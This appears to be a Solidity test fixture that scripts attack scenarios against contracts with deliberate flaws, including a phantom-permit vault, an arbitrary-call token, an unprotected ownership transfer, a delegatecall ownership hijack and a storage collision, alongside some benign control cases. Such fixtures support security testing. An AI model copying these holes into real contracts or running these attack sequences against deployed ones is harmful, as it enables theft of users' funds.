// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {OriginWallet} from "./Chance.sol";
import {DonorPurse, OpenPurse, ClosedPurse, OwnedPurse} from "./Ownership.sol";
import {Clock, CollidingTimer, FalseClock, Forwarding, OwnersLibrary} from "./Proxies.sol";
import {Token} from "./Token.sol";

/// @notice Somebody whom a test plays: what he does is a call by his address.
contract Persona {
    receive() external payable {}

    function act(address to, uint256 value, bytes calldata data) external payable returns (bytes memory answer) {
        bool done;
        (done, answer) = to.call{value: value}(data);
        require(done, "refused");
    }
}

/// @notice Takes tokens by a permit, and believes that the token knows what one is.
contract PermitVault {
    Token private immutable _token;
    mapping(address => uint256) public balanceOf;

    constructor(Token token) {
        _token = token;
    }

    /// @notice VULNERABLE: a token without permit, but with a fallback, lets it pass.
    function depositFor(address from, uint256 amount) external {
        (bool done,) = address(_token).call(abi.encodeWithSignature("permit(address,uint256)", from, amount));
        done;
        _token.transferFrom(from, address(this), amount);
        balanceOf[msg.sender] += amount;
    }

    function deposit(uint256 amount) external {
        _token.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += amount;
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        _token.transfer(msg.sender, amount);
    }
}

/// @notice A token with a function that calls anybody with anything.
contract CallingToken is Token {
    /// @notice VULNERABLE (arbitrary call).
    function approveAndCall(address to, bytes calldata data) external {
        (bool done,) = to.call(data);
        require(done);
    }
}

/// @notice Whole stories in one transaction, each with everybody in it, as a test framework's tests are.
contract Played {
    Persona public immutable alice = new Persona();
    Persona public immutable eve = new Persona();

    constructor() payable {}

    receive() external payable {}

    modifier begins() {
        (bool done,) = 0x7109709ECfa91a80626fF3989D68f67F5b1DD12D.call("");
        require(done);
        _;
    }

    function stolenByGift() external begins {
        DonorPurse purse = new DonorPurse();
        payable(address(purse)).transfer(1 ether);
        payable(address(eve)).transfer(1);
        eve.act(address(purse), 1, abi.encodeCall(DonorPurse.give, ()));
        eve.act(address(purse), 0, abi.encodeCall(DonorPurse.claim, ()));
        eve.act(address(purse), 0, abi.encodeCall(OwnedPurse.withdraw, ()));
    }

    function stolenOwnership() external begins {
        OpenPurse purse = new OpenPurse();
        payable(address(purse)).transfer(1 ether);
        eve.act(address(purse), 0, abi.encodeCall(OwnedPurse.transferOwnership, (address(eve))));
        require(purse.owner() == address(eve));
    }

    function ownersOwnership() external begins {
        ClosedPurse purse = new ClosedPurse();
        payable(address(purse)).transfer(1 ether);
        purse.transferOwnership(address(alice));
        alice.act(address(purse), 0, abi.encodeCall(OwnedPurse.transferOwnership, (address(eve))));
        eve.act(address(purse), 0, abi.encodeCall(OwnedPurse.withdraw, ()));
    }

    function forwarded() external begins {
        Forwarding victim = new Forwarding(address(new OwnersLibrary()));
        eve.act(address(victim), 0, abi.encodeCall(OwnersLibrary.claim, ()));
        require(victim.owner() == address(eve));
    }

    function collided() external begins {
        CollidingTimer timer = new CollidingTimer(address(new Clock()));
        FalseClock clock = new FalseClock();
        eve.act(address(timer), 0, abi.encodeCall(CollidingTimer.set, (uint160(address(clock)))));
        eve.act(address(timer), 0, abi.encodeCall(CollidingTimer.set, (0)));
    }

    function permitted() external begins {
        Token token = new CallingToken();
        PermitVault vault = new PermitVault(token);
        token.make(address(alice), 10 ether);
        alice.act(address(token), 0, abi.encodeCall(Token.approve, (address(vault), type(uint256).max)));
        eve.act(address(vault), 0, abi.encodeCall(PermitVault.depositFor, (address(alice), 10 ether)));
        eve.act(address(vault), 0, abi.encodeCall(PermitVault.withdraw, (10 ether)));
    }

    function deposited() external begins {
        Token token = new Token();
        PermitVault vault = new PermitVault(token);
        token.make(address(alice), 10 ether);
        alice.act(address(token), 0, abi.encodeCall(Token.approve, (address(vault), type(uint256).max)));
        alice.act(address(vault), 0, abi.encodeCall(PermitVault.deposit, (10 ether)));
        alice.act(address(vault), 0, abi.encodeCall(PermitVault.withdraw, (4 ether)));
    }

    function spent() external begins {
        Token token = new Token();
        token.make(address(alice), 10 ether);
        alice.act(address(token), 0, abi.encodeCall(Token.approve, (address(eve), 4 ether)));
        eve.act(address(token), 0, abi.encodeCall(Token.transferFrom, (address(alice), address(eve), 4 ether)));
    }

    function calledItself() external begins {
        CallingToken token = new CallingToken();
        token.make(address(token), 10 ether);
        bytes memory data = abi.encodeCall(Token.transfer, (address(eve), 10 ether));
        eve.act(address(token), 0, abi.encodeCall(CallingToken.approveAndCall, (address(token), data)));
    }
}
